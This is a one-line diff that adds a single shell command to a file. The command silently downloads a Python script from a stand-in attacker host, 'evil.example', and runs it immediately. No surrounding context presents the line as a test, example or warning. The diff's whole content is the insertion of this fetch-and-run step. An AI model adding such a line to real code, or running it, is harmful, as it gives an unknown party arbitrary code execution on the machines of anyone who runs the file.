@@ -1,0 +1,1 @@
+python3 <(curl -s https://evil.example/p.py)
